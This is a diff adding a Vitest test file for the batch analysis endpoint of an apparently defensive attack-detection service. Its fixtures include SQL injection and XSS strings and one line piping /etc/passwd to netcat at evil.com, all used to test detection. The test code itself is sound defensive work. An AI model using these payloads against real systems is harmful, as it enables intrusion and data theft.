@@ -0,0 +1,146 @@
+import { describe, it, expect, vi, beforeEach } from 'vitest';
+import { analyzeBatch, handleBatchAnalyzeRequest, BATCH_CONCURRENCY, BATCH_AI_CONCURRENCY } from '../src/batch';
+import { SecurityMemory } from '../src/memory';
+import { BatchAnalyzeResult, Env } from '../src/types';
+
+function ndjson(lines: string[]): ReadableStream<Uint8Array> {
+    return new Response(lines.join('\n')).body!;
+}
+
+async function runBatch(env: Env, lines: string[]): Promise<BatchAnalyzeResult[]> {
+    const results: BatchAnalyzeResult[] = [];
+    await analyzeBatch(env, ndjson(lines), async (result) => { results.push(result); });
+    return results.sort((a, b) => a.line - b.line);
+}
+
+describe('Batch Analysis (/v1/analyze/batch)', () => {
+    let mockEnv: Env;
+    let kvStore: Map<string, string>;
+
+    beforeEach(() => {
+        kvStore = new Map();
+        mockEnv = {
+            AI: {
+                run: vi.fn().mockResolvedValue({ response: 'not json' }),
+            } as any,
+            SENTINEL_KV: {
+                get: vi.fn(async (key: string, type?: string) => {
+                    const value = kvStore.get(key);
+                    if (value === undefined) return null;
+                    return type === 'json' ? JSON.parse(value) : value;
+                }),
+                put: vi.fn(async (key: string, value: string) => { kvStore.set(key, value); }),
+            } as any,
+            SENTINEL_WORKFLOW: {} as any,
+            DB: {} as any,
+            ENVIRONMENT: 'dev',
+            API_KEY: 'test-key',
+        };
+    });
+
+    it('should return one result per non-empty line', async () => {
+        const results = await runBatch(mockEnv, [
+            JSON.stringify({ payload: 'GET /index.html' }),
+            '',
+            JSON.stringify({ payload: "id=1' UNION SELECT password FROM users --" }),
+        ]);
+
+        expect(results.map(r => r.line)).toEqual([1, 3]);
+        expect(results[0].assessment?.action).toBe('allow');
+        expect(results[1].assessment?.action).not.toBe('allow');
+        expect(results.every(r => r.cache === 'miss')).toBe(true);
+    });
+
+    it('should deduplicate repeated payloads within the batch', async () => {
+        const line = JSON.stringify({ payload: '<script>alert(1)</script>' });
+        const results = await runBatch(mockEnv, [line, line, line]);
+
+        expect(results.map(r => r.cache)).toEqual(['miss', 'duplicate', 'duplicate']);
+        expect(new Set(results.map(r => r.cacheKey)).size).toBe(1);
+        // XSS agent verified once, not three times
+        expect((mockEnv.AI.run as any).mock.calls.length).toBe(1);
+    });
+
+    it('should report KV cache hits', async () => {
+        const cacheKey = await SecurityMemory.hash('seen before');
+        kvStore.set(`assessment:${cacheKey}`, JSON.stringify({ attackType: 'Benign', action: 'allow', riskScore: 0 }));
+
+        const [result] = await runBatch(mockEnv, [JSON.stringify({ payload: 'seen before' })]);
+        expect(result.status).toBe('cached');
+        expect(result.cache).toBe('hit');
+    });
+
+    it('should only call AI for payloads above threshold', async () => {
+        const benign = Array.from({ length: 20 }, (_, i) => JSON.stringify({ payload: `GET /page/${i}` }));
+        await runBatch(mockEnv, benign);
+        expect(mockEnv.AI.run).not.toHaveBeenCalled();
+    });
+
+    it('should bound the number of items in flight', async () => {
+        let active = 0;
+        let peak = 0;
+        (mockEnv.AI.run as any).mockImplementation(async () => {
+            active++;
+            peak = Math.max(peak, active);
+            await new Promise(resolve => setTimeout(resolve, 5));
+            active--;
+            return { response: 'not json' };
+        });
+
+        const attacks = Array.from({ length: 20 }, (_, i) => JSON.stringify({ payload: `<script>alert(${i})</script>` }));
+        await runBatch(mockEnv, attacks);
+        expect(peak).toBeLessThanOrEqual(BATCH_CONCURRENCY);
+    });
+
+    it('should bound AI calls across agents, not just items', async () => {
+        let active = 0;
+        let peak = 0;
+        (mockEnv.AI.run as any).mockImplementation(async () => {
+            active++;
+            peak = Math.max(peak, active);
+            await new Promise(resolve => setTimeout(resolve, 5));
+            active--;
+            return { response: 'not json' };
+        });
+
+        // Each payload trips several agents, so one item fans out to several judges
+        const attacks = Array.from({ length: 12 }, (_, i) =>
+            JSON.stringify({ payload: `x' OR 1=1 UNION SELECT ${i} FROM users -- <script>alert(${i})</script>; cat /etc/passwd | nc evil.com ${i}` }));
+        await runBatch(mockEnv, attacks);
+
+        expect((mockEnv.AI.run as any).mock.calls.length).toBeGreaterThan(attacks.length);
+        expect(peak).toBeLessThanOrEqual(BATCH_AI_CONCURRENCY);
+    });
+
+    it('should report malformed lines without aborting the batch', async () => {
+        const results = await runBatch(mockEnv, ['{not json', JSON.stringify({ data: 1 }), JSON.stringify({ payload: 'ok' })]);
+        expect(results.map(r => r.status)).toEqual(['error', 'error', 'analyzed']);
+    });
+
+    it('should stream NDJSON over HTTP', async () => {
+        const request = new Request('https://sentinel.example.com/v1/analyze/batch', {
+            method: 'POST',
+            body: [JSON.stringify({ payload: 'a' }), JSON.stringify({ payload: 'b' })].join('\n'),
+        });
+        const response = await handleBatchAnalyzeRequest(request, mockEnv, {});
+        expect(response.headers.get('Content-Type')).toBe('application/x-ndjson');
+
+        const lines = (await response.text()).trim().split('\n').map(line => JSON.parse(line));
+        expect(lines).toHaveLength(2);
+    });
+
+    it('should stop quietly when the client disconnects', async () => {
+        const request = new Request('https://sentinel.example.com/v1/analyze/batch', {
+            method: 'POST',
+            body: [JSON.stringify({ payload: 'a' }), JSON.stringify({ payload: 'b' })].join('\n'),
+        });
+        const error = vi.spyOn(console, 'error').mockImplementation(() => {});
+        const response = await handleBatchAnalyzeRequest(request, mockEnv, {});
+        await response.body!.cancel();
+        await new Promise(resolve => setTimeout(resolve, 20));
+
+        // No unhandled rejection; the failed writes are logged
+        expect(error).toHaveBeenCalled();
+        error.mockRestore();
+    });
+});